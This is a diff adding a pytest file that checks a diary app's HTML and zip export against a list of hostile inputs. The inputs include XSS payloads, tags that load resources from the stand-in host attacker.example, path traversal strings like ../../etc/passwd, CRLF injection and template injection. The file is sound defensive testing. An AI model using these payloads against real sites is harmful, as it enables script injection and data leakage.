@@ -1,0 +1,165 @@
+"""E1, E8: hostile words in every place of a diary: in the names of a zip, in its index.html by a strict reader, and in headless Chromium where it is
+installed (`apt-get install chromium`)."""
+
+import re
+import shutil
+import subprocess
+
+import pytest
+
+from export_reading import FORMATS, exported
+from html_reading import Page
+
+ACT = "document.title='acted'"
+HOSTILE = [
+    f"<script>{ACT}</script>",
+    f"</script><script>{ACT}</script>",
+    f"</title><script>{ACT}</script>",
+    f"</style><script>{ACT}</script>",
+    f"<ScRiPt >{ACT}</sCrIpT >",
+    f"<script\x0c>{ACT}</script\x0c>",
+    "<script src=//attacker.example/a.js></script>",
+    f"<img src=x onerror={ACT}>",
+    f"<img/src='x'/onerror={ACT}//",
+    f'"><img src=x onerror={ACT}>',
+    f"' autofocus onfocus={ACT} x='",
+    f'" onmouseover="{ACT}" x="',
+    f"` onload=`{ACT}`",
+    "<img src=//attacker.example/a.png>",
+    "<img srcset='//attacker.example/a.png 1x'>",
+    f"<svg onload={ACT}>",
+    f"<svg><script>{ACT}</script></svg>",
+    "<svg><image href='//attacker.example/a.svg'/></svg>",
+    f"<svg><animate onbegin={ACT} attributeName=x dur=1s>",
+    f"<math><mi xlink:href='javascript:{ACT}'>x</mi></math>",
+    f"<iframe srcdoc='<script>{ACT}</script>'></iframe>",
+    "<iframe src=//attacker.example></iframe>",
+    f"<iframe src='javascript:{ACT}'></iframe>",
+    "<object data=//attacker.example></object>",
+    "<embed src=//attacker.example>",
+    f"<a href='javascript:{ACT}'>x</a>",
+    "<a href='//attacker.example' ping='//attacker.example'>x</a>",
+    f"[x](javascript:{ACT})",
+    "![x](http://attacker.example/a.png)",
+    "<base href=//attacker.example/>",
+    "<link rel=stylesheet href=//attacker.example/a.css>",
+    "<link rel=preconnect href=//attacker.example>",
+    "<meta http-equiv=refresh content='0;url=//attacker.example'>",
+    '<meta http-equiv=Content-Security-Policy content="script-src *">',
+    "<style>@import '//attacker.example/a.css';</style>",
+    "<div style='background:url(//attacker.example/a.png)'>",
+    "<form action=//attacker.example><button>x</button></form>",
+    f"<button onclick={ACT} autofocus>x</button>",
+    f"<input autofocus onfocus={ACT}>",
+    f"<details open ontoggle={ACT}>",
+    f"<video src=x onerror={ACT}></video>",
+    "<audio src=//attacker.example/a.m4a autoplay></audio>",
+    f"<body onload={ACT}>",
+    f"<marquee onstart={ACT}>",
+    f"<template><script>{ACT}</script></template>",
+    f'<noscript><p title="</noscript><script>{ACT}</script>">',
+    f"<textarea></textarea><script>{ACT}</script>",
+    f"<!--><script>{ACT}</script>",
+    f"--><script>{ACT}</script><!--",
+    f"<![CDATA[<script>{ACT}</script>]]>",
+    f"<?xml version='1.0'?><script>{ACT}</script>",
+    f"&lt;script&gt;{ACT}&lt;/script&gt;",
+    f"&#60;script&#62;{ACT}&#60;/script&#62;",
+    f"&#x3c;script>{ACT}</script>",
+    f"\u003cscript\u003e{ACT}",
+    f"\uff1cscript\uff1e{ACT}",
+    f"+ADw-script+AD4-{ACT}",
+    f"<scr\u200bipt>{ACT}</script>",
+    "</article></main></body></html>",
+    "</div></article><article id=query>",
+    "<bdi id=found role=alert>x</bdi>",
+    "../../etc/passwd",
+    "..\\..\\windows\\win.ini",
+    "/etc/passwd",
+    "C:\\autoexec.bat",
+    "audio/../../x.m4a",
+    "CON",
+    "a\u202egnp.exe",
+    "a\r\nContent-Type: text/html",
+    "{{7*7}} ${7*7} <%= 7*7 %>",
+    "\u2028<script>\u2029",
+    "\x1b]0;acted\x07",
+    "\x01\x7f\x85\ufffe\U0001ffff",
+]
+
+
+def test_there_are_enough_of_them():
+    assert len(set(HOSTILE)) == len(HOSTILE) >= 60
+
+
+@pytest.fixture(scope="module")
+def zipped(shared_rig):
+    """Every one of them as a title, as a mood, among tags, in a text, in a segment, and as a speaker's name and id."""
+    rig, user = shared_rig, shared_rig.user()
+    rig.script("speech", segments=[{"text": words, "speaker": words[:40]} for words in HOSTILE])
+    spoken = user.record(title=HOSTILE[0], tags=[HOSTILE[1][:50]])
+    user.wait_done(spoken)
+    rig.unscript()
+    transcript = user.call("GET", f"/v1/entries/{spoken}/transcript", 200).json()
+    names = {speaker["id"]: words[:60] for speaker, words in zip(transcript["speakers"], HOSTILE[::-1], strict=False)}
+    user.call("PATCH", f"/v1/entries/{spoken}/speakers", 200, json=names, headers={"If-Match": "*"})
+    user.call("PATCH", f"/v1/entries/{spoken}/segments/1", 200, json={"text": "\n".join(HOSTILE)}, headers={"If-Match": "*"})
+    for place, words in enumerate(HOSTILE):
+        fields = {"title": words, "mood": words[:50], "tags": sorted({w[:50] for w in HOSTILE[place % 4 * 20 :][:20]})}
+        user.create_text("\n".join(HOSTILE) if place == 0 else words, recorded_at=f"2026-05-01T10:00:{place % 60:02d}Z", **fields)
+    yield exported(user, formats=FORMATS)
+
+
+def visible(words):
+    """As the page shows it: without characters that HTML has not."""
+    words = words.replace("\r\n", "\n").replace("\r", "\n")
+    return "".join(c if ord(c) in (9, 10) or not unprintable(ord(c)) else "\ufffd" for c in words)
+
+
+def unprintable(code):
+    return code < 32 or 0x7F <= code < 0xA0 or 0xFDD0 <= code <= 0xFDEF or code & 0xFFFE == 0xFFFE
+
+
+def test_e1_names_are_made_of_times_and_ids_whatever_the_entries_hold(zipped):
+    # `Zip` has checked every name.
+    assert len(zipped.names) == 3 * len(HOSTILE) + 6 + 2
+
+
+def test_e8_the_page_has_all_words_as_text_and_nothing_that_acts(zipped):
+    page = Page(zipped.read("index.html").decode())
+    titles = [page.text(heading) for heading in page.all("h4")]
+    shown = page.text(page.root)
+    for words in HOSTILE:
+        assert any(title.endswith(" " + visible(words)) for title in titles), words
+        assert shown.count(visible(words)) >= 4, words
+    articles = page.all("article")
+    assert len(articles) == len(HOSTILE) + 1
+    (player,) = page.all("audio")
+    assert player.attrib["src"] in zipped.names and player.attrib["preload"] == "none"
+    for link in page.all("a"):
+        assert link.attrib["href"].startswith("#") or link.attrib["href"] in zipped.names
+
+
+CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="Chromium is not installed: apt-get install chromium")
+def test_e8_in_a_browser_nothing_acts_and_nothing_outside_is_asked_for(zipped, tmp_path):
+    page = tmp_path / "index.html"
+    page.write_bytes(zipped.read("index.html"))
+    asked = tmp_path / "net.json"
+    arguments = ["--headless=new", "--no-sandbox", "--disable-gpu", f"--user-data-dir={tmp_path / 'profile'}", "--virtual-time-budget=3000"]
+    arguments += [
+        "--disable-background-networking",
+        "--disable-component-update",
+        f"--log-net-log={asked}",
+        "--host-resolver-rules=MAP * ~NOTFOUND",
+    ]
+
+    made = subprocess.run([CHROMIUM, *arguments, "--dump-dom", page.as_uri()], capture_output=True, text=True, timeout=90)
+
+    assert made.returncode == 0, made.stderr[-2000:]
+    assert "<title>Diary, " in made.stdout and "<title>acted" not in made.stdout
+    # The script of the page itself has run: it shows the search.
+    assert re.search(r'<form id="search" role="search">', made.stdout)
+    assert made.stdout.count("<script") == 1 and "attacker.example" not in asked.read_text()
